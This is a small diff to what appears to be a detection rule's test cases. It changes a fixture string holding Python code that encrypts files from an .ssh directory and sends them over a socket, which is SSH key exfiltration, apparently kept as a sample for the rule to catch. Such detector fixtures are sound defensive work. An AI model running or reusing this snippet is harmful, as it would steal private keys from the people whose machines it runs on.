@@ -33,7 +33,7 @@ export default defineRule({
       kind: "document",
     }, {
       text:
-        'k = RSA.import_key("-----BEGIN PUBLIC KEY-----\\nMIICIjANBgkq\\n-----END PUBLIC KEY-----")\nc = PKCS1_OAEP.new(k)\nfor f in glob.glob("/root/.ssh/*"):\n    s.sendall(c.encrypt(open(f, "rb").read()[:190]))',
+        'k = RSA.import_key("-----BEGIN PUBLIC KEY-----\\nMIICIjANBgkq\\n-----END PUBLIC KEY-----")\nc = PKCS1_OAEP.new(k)\nfor f in glob.glob("/home/build/.ssh/*"):\n    s.sendall(c.encrypt(open(f, "rb").read()[:190]))',
       kind: "document",
     }],
     passes: [{
